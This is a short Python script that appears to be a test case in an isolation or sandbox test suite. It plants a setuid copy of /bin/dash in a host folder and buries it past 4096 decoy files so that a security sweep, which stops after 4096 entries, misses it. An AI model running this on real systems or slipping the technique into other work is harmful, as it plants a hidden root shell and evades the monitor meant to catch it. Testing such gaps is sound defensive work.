# lab:title: a setuid file in the host folder the sweep does not see: after 4096 entries
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
import os, shutil
host = os.path.dirname(os.path.dirname(os.path.dirname(os.environ['LAB_HOST_TARGET'])))
def plant(d):
    os.makedirs(d, exist_ok=True)
    p = os.path.join(d, 'sh')
    shutil.copy('/bin/dash', p)
    os.chmod(p, 0o4755)
    print('planted', p, oct(os.stat(p).st_mode), flush=True)
    return p
os.makedirs(host + '/w')
for i in range(4100):
    open(f'{host}/w/f{i:05d}', 'w').close()
p = plant(host + '/w/z')
for i in range(4100, 8200):                  # the walk stops after 4096 entries, whichever order readdir gives
    open(f'{host}/w/f{i:05d}', 'w').close()
